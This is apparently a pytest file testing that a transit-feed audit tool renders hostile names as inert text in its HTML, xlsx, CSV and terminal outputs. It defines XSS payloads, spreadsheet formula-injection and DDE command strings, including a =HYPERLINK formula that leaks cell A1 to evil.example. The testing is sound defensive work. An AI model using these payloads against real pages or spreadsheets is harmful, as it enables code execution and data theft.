"""Hostile names in a feed, a manifest and the side files: every output shows them as text, runs nothing.

report.html and summary.html are parsed (one script, the sort script, allowed by its hash; no event-handler
attributes; the same elements and attributes as for a benign twin of the feed) and loaded in headless Chromium
with a listener that fails on any dialog, exception or console/CSP error. report.xlsx and summary.xlsx hold no
formula; findings.csv, routes.csv and summary.csv no cell a spreadsheet would evaluate."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook

from checker.report.cells import FORMULA_START, csv_cell
from checker.report.templating import SORT_SCRIPT, script_source
from tests.browser import Page
from tests.conftest import at, feed_tables, square_km, write_feed, write_polygon

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(2)>"
SVG = '"><svg onload=alert(3)>'
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
PLUS = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
MARKUP = "[/bold][link=http://evil.example]x[/link]"
CITY = "</title><script>alert(5)</script>"
BATCH_CITY = "<img src=x onerror=alert(6)>"
FORMULA_CITY = '=HYPERLINK("http://evil.example","city")'
BAD_VALUE = '=HYPERLINK("http://x")<script>alert(9)</script>'

HOSTILE = {"r1": SCRIPT, "r2": FORMULA, "r3": MINUS, "r4": AT, "r5": MARKUP, "long": PLUS, "stop": IMG, "hub": SVG,
           "facility": AT, "district": TAB, "district2": SCRIPT}
TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "span", "b", "i", "code", "br",
        "table", "thead", "tbody", "tr", "th", "td", "dl", "dt", "dd", "ul", "li", "svg", "path", "g", "circle",
        "rect", "text", "script", "a", "pre", "line"}
ATTRIBUTES = {"lang", "charset", "http-equiv", "content", "name", "class", "id", "style", "colspan", "xmlns",
              "viewbox", "width", "height", "role", "aria-label", "fill-rule", "d", "cx", "cy", "r", "x", "y", "href",
              # the map's drawing attributes (scale bar, north arrow, district outlines, labels, legend)
              "fill", "stroke", "stroke-width", "stroke-dasharray", "paint-order", "font-size", "text-anchor",
              "x1", "y1", "x2", "y2"}


class Markup(HTMLParser):
    """Elements, attributes, script bodies and visible text of a page."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.elements: Counter = Counter()
        self.attributes: list[tuple[str, str, str | None]] = []
        self.scripts: list[str] = []
        self.metas: list[dict] = []
        self.text: list[str] = []
        self._in_script = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements[(tag, tuple(sorted(name for name, _ in attrs)))] += 1
        self.attributes += [(tag, name, value) for name, value in attrs]
        if tag == "meta":
            self.metas.append(dict(attrs))
        if tag == "script":
            self._in_script = True
            self.scripts.append("")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1] += data
        else:
            self.text.append(data)

    def csp(self) -> str:
        (policy,) = [m["content"] for m in self.metas if m.get("http-equiv") == "Content-Security-Policy"]
        return policy


def _hostile_files(folder: Path, names: dict[str, str], city_tier: str = "large") -> dict[str, Path]:
    """A feed, built-up area, districts, hubs, facilities and profile whose names are `names`."""
    routes = {"R1": [420 + 40 * i for i in range(20)], "R2": [420 + 15 * i for i in range(50)],
              "R3": [480 + 20 * i for i in range(30)], "R4": [400 + 30 * i for i in range(30)],
              "R5": [420 + 20 * i for i in range(40)]}
    tables = feed_tables(routes=routes)

    def quoted(text: str) -> str:
        return '"' + text.replace('"', '""') + '"'

    tables["routes.txt"] = "route_id,route_short_name,route_long_name,route_type\n" + "".join(
        f"R{i},{quoted(names[f'r{i}'])},{quoted(names['long'])},3\n" for i in range(1, 6))
    tables["stops.txt"] = tables["stops.txt"].replace("Stop A", quoted(names["stop"]))
    feed = write_feed(folder / "feed", tables)
    built_up = write_polygon(folder / "built_up.geojson")
    districts = folder / "districts.geojson"
    districts.write_text(json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"name": names["district"]},
         "geometry": {"type": "Polygon", "coordinates": [square_km(-5, -5, 0, 5)]}},
        {"type": "Feature", "properties": {"name": names["district2"]},
         "geometry": {"type": "Polygon", "coordinates": [square_km(0, -5, 5, 5)]}}]}), encoding="utf-8")
    lon, lat = at(0, 0)
    hubs = folder / "hubs.csv"
    hubs.write_text("name,mode,lat,lon,first_departure,last_arrival\n"
                    f"{quoted(names['hub'])},rail,{lat},{lon},06:00,23:00\n", encoding="utf-8")
    far_lon, far_lat = at(-4, 4)  # nearest stop: A, named `names["stop"]`
    facilities = folder / "facilities.csv"
    facilities.write_text("name,category,lat,lon\n"
                          f"{quoted(names['facility'])},hospital,{far_lat},{far_lon}\n", encoding="utf-8")
    profile = folder / "profile.toml"
    profile.write_text(f'tier = "{city_tier}"\n', encoding="utf-8")
    return {"feed": feed, "built_up": built_up, "districts": districts, "hubs": hubs, "facilities": facilities,
            "profile": profile}


def _audit(cli, folder: Path, names: dict[str, str], city: str) -> Path:
    files = _hostile_files(folder, names)
    out = folder / "out"
    result = cli("audit", files["feed"], "--built-up", files["built_up"], "--city", city, "--profile", files["profile"],
                 "--districts", files["districts"], "--hubs", files["hubs"], "--facilities", files["facilities"],
                 "--out", out)
    assert result.exit_code == 1, result.output  # the feed fails some rules; it is audited, not refused
    return out


@pytest.fixture(scope="module")
def runner_cli():
    from typer.testing import CliRunner

    from checker.cli import app

    runner = CliRunner()
    return lambda *args: runner.invoke(app, [str(a) for a in args], catch_exceptions=False)


@pytest.fixture(scope="module")
def hostile_out(tmp_path_factory, runner_cli):
    return _audit(runner_cli, tmp_path_factory.mktemp("hostile"), HOSTILE, CITY)


@pytest.fixture(scope="module")
def benign_out(tmp_path_factory, runner_cli):
    """The same feed and files with plain names: the page structure must be the same."""
    plain = {key: f"name{i}" for i, key in enumerate(HOSTILE)}
    return _audit(runner_cli, tmp_path_factory.mktemp("benign"), plain, "Plainville")


@pytest.fixture(scope="module")
def batch_out(tmp_path_factory, runner_cli):
    """A batch with a hostile city name, a city named as a formula, and a city whose feed quotes a hostile value
    in its error row."""
    folder = tmp_path_factory.mktemp("hostile_batch")
    files = _hostile_files(folder, HOSTILE)
    tables = feed_tables()
    lines = tables["stop_times.txt"].splitlines()
    first = lines[1].split(",")
    first[1] = '"' + BAD_VALUE.replace('"', '""') + '"'
    tables["stop_times.txt"] = "\n".join([lines[0], ",".join(first), *lines[2:]]) + "\n"
    bad = write_feed(folder / "bad", tables)
    manifest = folder / "province.toml"
    manifest.write_text(
        '[defaults]\nbuilt_up = "built_up.geojson"\ntier = "large"\n\n'
        f'[[city]]\nname = {json.dumps(BATCH_CITY)}\nfeed = "{files["feed"].relative_to(folder)}"\n\n'
        f'[[city]]\nname = {json.dumps(FORMULA_CITY)}\nfeed = "{files["feed"].relative_to(folder)}"\n\n'
        f'[[city]]\nname = {json.dumps(SCRIPT)}\nfeed = "{bad.relative_to(folder)}"\n', encoding="utf-8")
    out = folder / "out"
    result = runner_cli("batch", manifest, "--out", out, "--workers", 1)
    assert result.exit_code == 2, result.output  # one city's input is bad
    return out


def _markup(path: Path) -> Markup:
    return Markup(path.read_text(encoding="utf-8"))


def _no_executable_markup(page: Markup, scripts: list[str]) -> None:
    assert page.scripts == scripts
    assert {tag for tag, _ in page.elements} <= TAGS
    assert {name for _, name, _ in page.attributes} <= ATTRIBUTES
    assert not [name for _, name, _ in page.attributes if name.startswith("on")]
    for _, name, value in page.attributes:
        if name == "href":
            assert not re.match(r"\s*[a-z][a-z0-9+.-]*:", value or "", re.I), value  # relative links only
    policy = page.csp()
    allowed = " ".join(script_source(s) for s in scripts) or "'none'"
    assert f"script-src {allowed};" in policy and "default-src 'none'" in policy


def test_report_html_has_one_script_and_names_as_text(hostile_out, benign_out):
    page = _markup(hostile_out / "report.html")
    _no_executable_markup(page, [str(SORT_SCRIPT)])
    text = "".join(page.text)
    for name in (SCRIPT, FORMULA, MINUS, AT, MARKUP, SVG, CITY, IMG):
        assert name in text, name  # shown, as text
    # the same elements with the same attributes as the benign twin: nothing was added by a name
    assert page.elements == _markup(benign_out / "report.html").elements


def test_summary_html_has_no_script(batch_out):
    page = _markup(batch_out / "summary.html")
    _no_executable_markup(page, [])
    text = "".join(page.text)
    assert BATCH_CITY in text and FORMULA_CITY in text and SCRIPT in text and BAD_VALUE in text
    for _, name, value in page.attributes:
        if name == "href":  # each link is a city folder inside --out
            folder = batch_out / unquote(value).split("/")[0]
            assert folder.parent == batch_out


def test_reports_in_chromium_raise_no_dialog_and_no_error(hostile_out, batch_out, tmp_path):
    with Page(tmp_path / "profile") as page:
        page.open((hostile_out / "report.html").as_uri())
        assert page.evaluate("document.title").startswith(CITY)
        # the hashed sort script runs under the policy: a click sorts the trips column
        trips = page.evaluate("""(() => {
            const table = document.getElementById("routes-table");
            table.tHead.rows[0].cells[3].click();
            return [table.tHead.rows[0].cells[3].dataset.order,
                    Array.from(table.tBodies[0].rows, r => Number(r.cells[3].textContent))];
        })()""")
        assert trips[0] == "asc" and trips[1] == sorted(trips[1]) and len(trips[1]) == 5
        page.open((batch_out / "summary.html").as_uri())
        assert BATCH_CITY in page.evaluate("document.body.textContent")
        assert page.problems == []


def test_the_listener_sees_dialogs_and_the_policy_blocks_a_planted_script(hostile_out, tmp_path):
    """The listener is not blind: a script planted in the page would run without the policy and is blocked
    with it (reported as a CSP error)."""
    html = (hostile_out / "report.html").read_text(encoding="utf-8")
    planted = html.replace("</h1>", "</h1><script>alert('planted')</script>", 1)
    with_policy = tmp_path / "with_policy.html"
    with_policy.write_text(planted, encoding="utf-8")
    without = tmp_path / "without_policy.html"
    without.write_text(re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", planted), encoding="utf-8")
    with Page(tmp_path / "profile") as page:
        page.open(without.as_uri())
        assert page.problems == ["dialog alert: planted"]
        page.problems.clear()
        page.open(with_policy.as_uri())
        assert not [p for p in page.problems if p.startswith("dialog")]
        assert any("Content Security Policy" in p for p in page.problems), page.problems


def _formulas(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as book:
        sheets = {name: book.read(name) for name in book.namelist() if name.startswith("xl/worksheets/")}
    return [name for name, data in sheets.items() if b"<f>" in data or b"<f " in data]


def _values(path: Path) -> list:
    book = load_workbook(path)
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def test_xlsx_hold_names_as_text_never_formulas(hostile_out, batch_out):
    assert _formulas(hostile_out / "report.xlsx") == []
    values = _values(hostile_out / "report.xlsx")
    assert FORMULA in values and AT in values and MINUS in values  # as given, as string cells
    assert any(isinstance(v, str) and v.startswith(FORMULA) for v in values)
    assert _formulas(batch_out / "summary.xlsx") == []
    summary = _values(batch_out / "summary.xlsx")
    assert FORMULA_CITY in summary and BATCH_CITY in summary


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


@pytest.mark.parametrize("name", ["findings.csv", "routes.csv"])
def test_csv_cells_are_never_formulas(hostile_out, name):
    cells = _cells(hostile_out / name)
    starting = [c for c in cells if c.startswith(FORMULA_START)]
    assert all(re.fullmatch(r"[+-]?[\d.]+([eE][+-]?\d+)?", c) for c in starting), starting
    assert "'" + FORMULA in cells and "'" + MINUS in cells and "'" + AT in cells


def test_summary_csv_cells_are_never_formulas(batch_out):
    cells = _cells(batch_out / "summary.csv")
    assert not [c for c in cells if c.startswith(FORMULA_START) and not re.fullmatch(r"[+-]?[\d.]+", c)]
    assert "'" + FORMULA_CITY in cells
    assert any(c.startswith("-") and float(c) < 0 for c in cells if re.fullmatch(r"-[\d.]+", c))  # margins stay


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+1+cmd", "'+1+cmd"), ("-1+cmd", "'-1+cmd"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-5", "-5"), ("+1.5e3", "+1.5e3"), (-0.25, -0.25), (3, 3), ("广州", "广州"), ("a=b", "a=b"),
    ("", ""), (None, None),
])
def test_csv_cell_neutralises_formulas_and_keeps_numbers(value, cell):
    assert csv_cell(value) == cell


def test_text_output_shows_markup_as_text(tmp_path, runner_cli):
    files = _hostile_files(tmp_path, HOSTILE)
    result = runner_cli("audit", files["feed"], "--built-up", files["built_up"], "--city", CITY,
                        "--profile", files["profile"], "--hubs", files["hubs"])
    assert result.exit_code == 1, result.output
    assert "[/bold]" in result.output and "\x1b]8" not in result.output  # no terminal hyperlink made of a name
